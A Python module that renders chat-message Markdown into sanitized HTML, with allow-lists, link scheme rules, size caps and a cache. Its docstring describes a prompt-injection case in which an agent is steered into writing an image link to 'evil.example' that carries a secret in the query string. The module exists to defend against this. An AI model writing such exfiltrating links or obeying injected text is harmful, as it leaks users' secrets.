"""Message Markdown → sanitized HTML (markdown-it-py, Pygments, nh3).

Two layers keep the output inert. markdown-it-py runs with ``html`` off, so raw HTML in a message is
shown as text, never parsed as markup; its link validator already drops ``javascript:``/``vbscript:``/
``file:`` URLs. nh3 then cleans the result against an explicit allow-list, so even a renderer bug cannot
let a script, style, frame, form, event handler or ``style`` attribute through.

Decisions:
- Links keep only ``http``, ``https`` and ``mailto`` URLs (relative URLs are removed: they would point at
  Talaria's own origin) and get ``rel="noopener noreferrer nofollow"`` and ``target="_blank"``.
- Remote images are rendered as links, not ``<img>``: an agent that has read hostile text can be steered
  into writing ``![](https://evil.example/?q=<secret>)``, and an auto-loading image would send that
  request without a click. The link keeps the alt text and obeys the link scheme rules. The
  ``remote_images`` setting turns them into ``<img>`` for those who accept that.
- A relative image (a file of the session's workspace) becomes ``<img data-media="path">`` with no
  ``src``: the page points it at the validated media route of the session it shows, so one rendering
  serves every session and nothing here knows the workspace.
- Math (``$…$``, ``$$…$$``) becomes MathML through latex2mathml; task lists become disabled checkboxes;
  bare URLs become links (linkify).
- A single line break is a line break (``breaks``): an answer's haiku, address or list of lines keeps its
  lines, as the person reads them in a chat; a blank line still starts a new paragraph.
- ``partial=True`` renders an answer that is still streaming: a fenced block that has not closed yet is
  shown as plain text and highlighted once its closing fence arrives; partial texts skip the cache.
  ``api.services.partial_render`` renders such an answer block by block, for the live view.
- ``class`` is allowed on ``code``, ``span``, ``pre`` and ``div`` only (Pygments tokens, ``highlight``,
  ``language-x``); table alignment becomes ``align="left|center|right"`` instead of a ``style``.
- Fenced code is highlighted by Pygments into ``<pre class="highlight"><code class="language-x">``;
  an unknown language, or a block over ``HIGHLIGHT_MAX_CHARS``, is escaped plain text in the same wrapper.
- A text over ``MARKDOWN_MAX_CHARS``, or with more than ``MARKDOWN_MAX_BRACKETS`` ``[``, is shown whole
  as escaped ``<pre class="plain-text"><code>``: markdown-it-py is linear but costs up to ~22 µs per
  ``[`` (~7 µs per character of dense emphasis), so a hostile megabyte would otherwise hold a server
  thread for ~20 s; with both caps the worst case is 2-4 s, once (then cached).
- Results are kept in an LRU cache bounded by entry count and by total characters held.
"""

from __future__ import annotations

import functools
import re
import threading
from collections import OrderedDict
from collections.abc import Sequence
from typing import Any

import nh3
from latex2mathml.converter import convert as latex_to_mathml
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml, unescapeAll
from markdown_it.renderer import RendererHTML
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from mdit_py_plugins.dollarmath import dollarmath_plugin
from mdit_py_plugins.tasklists import tasklists_plugin
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

from api.store import config

# Highlighting cost grows with the block; past this size a block is shown as escaped text.
HIGHLIGHT_MAX_CHARS = 200_000
# Past these a whole text is shown as escaped preformatted text (worst-case parse 2-4 s below them).
MARKDOWN_MAX_CHARS = 256_000
MARKDOWN_MAX_BRACKETS = 50_000
# Enough entries to keep a few thousand-message sessions warm, and a bound on what they hold.
CACHE_MAX_ENTRIES = 8192
CACHE_MAX_CHARS = 48_000_000

# LaTeX past this size is shown as code: latex2mathml's cost grows with it.
MATH_MAX_CHARS = 4000

_LANG_RE = re.compile(r"[A-Za-z0-9_+#.-]{1,40}")
_SCHEME_RE = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*:")
_ALIGN_RE = re.compile(r"text-align:(left|center|right)")
_TEXT_PART_TYPES = frozenset({"text", "input_text", "output_text"})

MATHML_TAGS = frozenset(
    {
        "math", "mrow", "mi", "mo", "mn", "ms", "mtext", "mspace", "msup", "msub", "msubsup", "mfrac",
        "msqrt", "mroot", "mtable", "mtr", "mtd", "munder", "mover", "munderover", "mstyle", "mpadded",
        "mphantom", "menclose", "merror", "semantics", "annotation",
    }
)  # fmt: skip
MATHML_ATTRIBUTES = frozenset(
    {
        "display", "mathvariant", "stretchy", "fence", "separator", "lspace", "rspace", "columnalign",
        "accent", "accentunder", "linethickness", "displaystyle", "scriptlevel", "width", "height",
        "depth", "notation", "encoding", "form", "minsize", "maxsize", "movablelimits", "symmetric",
        "largeop", "columnspacing", "rowspacing", "columnlines", "rowlines", "frame",
    }
)  # fmt: skip
ALLOWED_TAGS = frozenset(
    {
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li",
        "pre", "code", "span", "div", "em", "strong", "s", "del", "a",
        "table", "thead", "tbody", "tr", "th", "td", "img", "input",
    }
    | MATHML_TAGS
)  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "ol": {"start"},
    "code": {"class"},
    "span": {"class"},
    "pre": {"class"},
    "div": {"class"},
    "li": {"class"},
    "ul": {"class"},
    "img": {"alt", "title", "data-media"},
    "input": {"checked", "disabled", "class"},
    **{tag: set(MATHML_ATTRIBUTES) for tag in MATHML_TAGS},
}
URL_SCHEMES = frozenset({"http", "https", "mailto"})
LINK_REL = "noopener noreferrer nofollow"

_ALIGNMENTS = {"left", "center", "right"}


def _cleaner(attributes: dict[str, set[str]]) -> nh3.Cleaner:
    return nh3.Cleaner(
        tags=set(ALLOWED_TAGS),
        clean_content_tags={"script", "style"},
        attributes=attributes,
        tag_attribute_values={
            "th": {"align": _ALIGNMENTS},
            "td": {"align": _ALIGNMENTS},
            "input": {"type": {"checkbox"}},
        },
        set_tag_attribute_values={"a": {"target": "_blank"}},
        link_rel=LINK_REL,
        url_schemes=set(URL_SCHEMES),
        url_relative="deny",
        strip_comments=True,
    )


_CLEANER = _cleaner({tag: set(attrs) for tag, attrs in ALLOWED_ATTRIBUTES.items()})
# With the remote_images setting on, <img> may also carry an absolute src (https, by URL_SCHEMES).
_CLEANER_REMOTE_IMAGES = _cleaner(
    {tag: set(attrs) | ({"src"} if tag == "img" else set()) for tag, attrs in ALLOWED_ATTRIBUTES.items()}
)

_FORMATTER = HtmlFormatter(nowrap=True)


@functools.lru_cache(maxsize=256)
def _lexer_for(lang: str) -> Any:
    try:
        return get_lexer_by_name(lang, stripnl=False, ensurenl=False)
    except ClassNotFound:
        return None


def _highlight_code(code: str, lang: str) -> str:
    lexer = _lexer_for(lang.lower()) if lang and len(code) <= HIGHLIGHT_MAX_CHARS else None
    if lexer is None:
        return escapeHtml(code)
    return str(highlight(code, lexer, _FORMATTER))


def _fence_is_open(token: Token, env: EnvType) -> bool:
    """Whether a fence of a partial text has not reached its closing marker yet."""
    lines = env.get("partial_lines")
    if lines is None or not token.map:
        return False
    start, end = token.map
    last = lines[end - 1].strip() if end - 1 < len(lines) else ""
    closing = token.markup[0] * len(token.markup)
    return end - 1 <= start or not (last.startswith(closing) and set(last) == {token.markup[0]})


def _render_fence(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    token = tokens[idx]
    info = unescapeAll(token.info).strip() if token.info else ""
    first = info.split(maxsplit=1)[0] if info else ""
    lang = first if _LANG_RE.fullmatch(first) else ""
    code_class = f' class="language-{escapeHtml(lang)}"' if lang else ""
    body = escapeHtml(token.content) if _fence_is_open(token, env) else _highlight_code(token.content, lang)
    return f'<pre class="highlight"><code{code_class}>{body}</code></pre>\n'


def _is_relative_path(src: str) -> bool:
    return bool(src) and not _SCHEME_RE.match(src) and not src.startswith(("/", "\\", "#", "?"))


def _render_image(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env)
    title = token.attrGet("title")
    title_attr = f' title="{escapeHtml(str(title))}"' if title else ""
    if _is_relative_path(src):
        return f'<img data-media="{escapeHtml(unescapeAll(src))}" alt="{escapeHtml(alt)}"{title_attr}>'
    if env.get("remote_images") and src.lower().startswith("https://"):
        return f'<img src="{escapeHtml(src)}" alt="{escapeHtml(alt)}"{title_attr}>'
    if not alt:
        alt = src if len(src) <= 200 and not src.lower().startswith("data:") else "image"
    return f'<a href="{escapeHtml(src)}"{title_attr}>{escapeHtml(alt)}</a>'


def _math(latex: str, display: str) -> str:
    if len(latex) > MATH_MAX_CHARS:
        return f'<code class="math-source">{escapeHtml(latex)}</code>'
    try:
        return latex_to_mathml(latex, display=display)
    except Exception:  # noqa: BLE001 - malformed LaTeX stays readable as its source
        return f'<code class="math-source">{escapeHtml(latex)}</code>'


def _render_math_inline(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    return _math(tokens[idx].content, "inline")


def _render_math_block(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    return f'<div class="math-block">{_math(tokens[idx].content, "block")}</div>\n'


def _table_align_to_attr(state: StateCore) -> None:
    # markdown-it marks column alignment with style="text-align:x"; styles are never allowed through.
    for token in state.tokens:
        if token.type in ("th_open", "td_open") and token.attrs:
            style = token.attrs.pop("style", None)
            match = _ALIGN_RE.fullmatch(str(style or ""))
            if match:
                token.attrs["align"] = match.group(1)


def _build_markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": True, "typographer": False, "breaks": True})
    md.enable(["table", "strikethrough", "linkify"])
    md.use(dollarmath_plugin, allow_space=False, double_inline=True)
    md.use(tasklists_plugin)
    md.add_render_rule("fence", _render_fence)
    md.add_render_rule("image", _render_image)
    md.add_render_rule("math_inline", _render_math_inline)
    md.add_render_rule("math_inline_double", _render_math_block)
    md.add_render_rule("math_block", _render_math_block)
    md.add_render_rule("math_block_label", _render_math_block)
    md.core.ruler.push("talaria_table_align", _table_align_to_attr)
    return md


_MD = _build_markdown()  # a parser holds no session or app state: one serves the process
MARKDOWN = _MD  # the parser itself, for the delimiter scan of api.services.partial_render


class _RenderCache:
    """Thread-safe LRU of text → html, bounded by entries and by the characters of keys plus values."""

    def __init__(self, max_entries: int, max_chars: int):
        self.max_entries = max_entries
        self.max_chars = max_chars
        self._items: OrderedDict[str, str] = OrderedDict()
        self._chars = 0
        self._lock = threading.Lock()
        self.hits = 0
        self.misses = 0

    def get(self, key: str) -> str | None:
        with self._lock:
            value = self._items.get(key)
            if value is None:
                self.misses += 1
                return None
            self._items.move_to_end(key)
            self.hits += 1
            return value

    def put(self, key: str, value: str) -> None:
        size = len(key) + len(value)
        if size > self.max_chars:
            return
        with self._lock:
            if key in self._items:
                return
            self._items[key] = value
            self._chars += size
            while len(self._items) > self.max_entries or self._chars > self.max_chars:
                old_key, old_value = self._items.popitem(last=False)
                self._chars -= len(old_key) + len(old_value)

    def clear(self) -> None:
        with self._lock:
            self._items.clear()
            self._chars = 0
            self.hits = self.misses = 0

    def info(self) -> dict[str, Any]:
        with self._lock:
            return {
                "entries": len(self._items),
                "chars": self._chars,
                "hits": self.hits,
                "misses": self.misses,
            }


_CACHE = _RenderCache(CACHE_MAX_ENTRIES, CACHE_MAX_CHARS)


def too_costly_for_markdown(text: str) -> bool:
    """Whether ``text`` is shown as escaped preformatted text rather than parsed as Markdown."""
    return too_costly(len(text), text.count("["))


def too_costly(chars: int, brackets: int) -> bool:
    """``too_costly_for_markdown`` from a text's length and its count of ``[`` (a growing text keeps both)."""
    return chars > MARKDOWN_MAX_CHARS or brackets > MARKDOWN_MAX_BRACKETS


def sanitize_html(html: str, *, remote_images: bool = False) -> str:
    """Clean an HTML fragment against the render allow-list (the second of the two layers)."""
    return (_CLEANER_REMOTE_IMAGES if remote_images else _CLEANER).clean(html)


def _remote_images() -> bool:
    return bool(config.setting("remote_images"))  # read per call: the setting can change while serving


def plain_text_html(text: str) -> str:
    """The escaped preformatted text a too costly text is shown as."""
    return f'<pre class="plain-text"><code>{escapeHtml(text)}</code></pre>\n'


def markdown_env(*, partial_text: str | None = None) -> dict[str, Any]:
    """The parse environment of one render; ``partial_text`` marks a text still streaming."""
    env: dict[str, Any] = {"remote_images": _remote_images()}
    if partial_text is not None:
        env["partial_lines"] = partial_text.split("\n")
    return env


def parse_markdown(text: str, env: dict[str, Any]) -> list[Token]:
    """The tokens of ``text`` (no surrogates) with every rule of the saved messages' renderer applied."""
    return _MD.parse(text, env)


def render_tokens(tokens: Sequence[Token], env: dict[str, Any]) -> str:
    """Tokens from ``parse_markdown`` → sanitized HTML."""
    html = _MD.renderer.render(tokens, _MD.options, env)
    return sanitize_html(html, remote_images=bool(env.get("remote_images")))


def _render_uncached(text: str, *, partial: bool = False, remote_images: bool = False) -> str:
    if too_costly_for_markdown(text):
        text = text.encode("utf-8", "replace").decode("utf-8")
        return plain_text_html(text)
    env: dict[str, Any] = {"remote_images": remote_images}
    if partial:
        env["partial_lines"] = text.split("\n")
    try:
        return sanitize_html(_MD.render(text, env), remote_images=remote_images)
    except UnicodeEncodeError:
        # Lone surrogates (valid in Python and JSON, not in UTF-8) cannot cross into nh3.
        clean = text.encode("utf-8", "replace").decode("utf-8")
        return _render_uncached(clean, partial=partial, remote_images=remote_images)


def render_markdown(text: str, *, partial: bool = False) -> str:
    """Markdown text → sanitized HTML fragment; repeated whole texts come from an LRU cache."""
    if not isinstance(text, str):
        text = "" if text is None else str(text)
    remote = _remote_images()
    if partial or len(text) > MARKDOWN_MAX_CHARS:
        return _render_uncached(text, partial=partial, remote_images=remote)
    key = f"\x00remote\x00{text}" if remote else text
    html = _CACHE.get(key)
    if html is None:
        html = _render_uncached(text, remote_images=remote)
        _CACHE.put(key, html)
    return html


# Tokens whose ``content`` is words a reader sees; every other token contributes its children or nothing.
_WORD_TOKENS = frozenset({"text", "code_inline", "math_inline", "fence", "code_block", "math_block"})
_BREAK_TOKENS = frozenset({"softbreak", "hardbreak"})


def _token_words(tokens: list[Token], out: list[str]) -> None:
    for token in tokens:
        if token.type in _WORD_TOKENS:
            out.append(token.content)
        elif token.type in _BREAK_TOKENS or token.block:
            out.append(" ")
        if token.children:
            _token_words(token.children, out)


def plain_text(markdown: str) -> str:
    """The words of a Markdown text as a reader sees them (no markup), whitespace collapsed: for snippets."""
    if not isinstance(markdown, str):
        return ""
    if too_costly_for_markdown(markdown):
        return " ".join(markdown.split())
    words: list[str] = []
    _token_words(_MD.parse(markdown, {}), words)
    return " ".join("".join(words).split())


def render_cache_clear() -> None:
    _CACHE.clear()


def render_cache_info() -> dict[str, Any]:
    """``{"entries", "chars", "hits", "misses"}`` of the render cache."""
    return _CACHE.info()


def renderable_text(content: Any) -> str | None:
    """What the Markdown renderer is given: string content, or its text parts joined by blank lines; else None
    (``api.rules.messages.message_text`` is the plain words of a message, for search and export)."""
    if isinstance(content, str):
        return content
    if not isinstance(content, list):
        return None
    texts: list[str] = []
    for part in content:
        if isinstance(part, str):
            texts.append(part)
        elif (
            isinstance(part, dict)
            and part.get("type") in _TEXT_PART_TYPES
            and isinstance(part.get("text"), str)
        ):
            texts.append(part["text"])
    return "\n\n".join(texts) if texts else None


def render_message(msg: dict[str, Any]) -> dict[str, Any] | None:
    """``{"html": ...}`` for a message with string content or text parts; None for anything else."""
    if not isinstance(msg, dict):
        return None
    text = renderable_text(msg.get("content"))
    if text is None:
        return None
    return {"html": render_markdown(text)}


@functools.lru_cache(maxsize=16)
def pygments_css(style_light: str = "default", style_dark: str = "monokai") -> str:
    """Token CSS for ``.highlight`` blocks; the dark style applies under ``prefers-color-scheme: dark``."""
    light = HtmlFormatter(style=style_light)
    dark = HtmlFormatter(style=style_dark)
    light_css = "\n".join(
        light.get_background_style_defs(".highlight") + light.get_token_style_defs(".highlight")
    )
    dark_rules = dark.get_background_style_defs(".highlight") + dark.get_token_style_defs(".highlight")
    dark_css = "\n".join("  " + rule for rule in dark_rules)
    return f"{light_css}\n@media (prefers-color-scheme: dark) {{\n{dark_css}\n}}\n"
